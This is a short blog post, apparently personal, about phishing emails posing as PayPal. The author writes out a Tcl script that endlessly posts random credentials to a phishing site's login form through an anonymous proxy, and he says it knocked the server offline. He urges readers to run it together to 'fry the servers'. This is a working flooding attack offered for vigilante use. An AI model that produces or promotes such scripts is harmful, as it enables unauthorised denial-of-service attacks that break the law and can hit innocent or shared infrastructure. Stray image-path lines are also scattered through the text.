Killing fake Paypal emails (identity thefts)

I was getting spammed by fake Paypal emails that looks like this. It looks original (these culprits hotlink the images to real paypal site). However, when you view the source, you will notice that the link that says “Click here to verify your account” leads to their fake site that collects user name and password. The url keeps changing with many emails. It looks like “” or “”

I decided to go on the offensive and fry their database/server. The login page is quite simple. It has a single form asking for user name and password. Armed with Tcl, I wrote the following simple script that continuously sends random user name/password to the server.

package require http
proc getRand {} { return [expr int(rand()*100000)] }

::http::config -proxyhost "" -proxyport 80
while { true } {
    set token [::http::geturl "" \
        -query [::http::formatQuery login user[getRand] password pass[getRand]]]

    puts "status: [::http::ncode $token]"I connected through an anonymous proxy to post the requests. Within a few attempts, their server stopped responding! If you receive these kind of spams and have Tcl/Tk installed, I urge you to give the above script a try and let us collectively fry the servers of these evil people.

Leave a Reply

Your email address will not be published.Required fields are marked *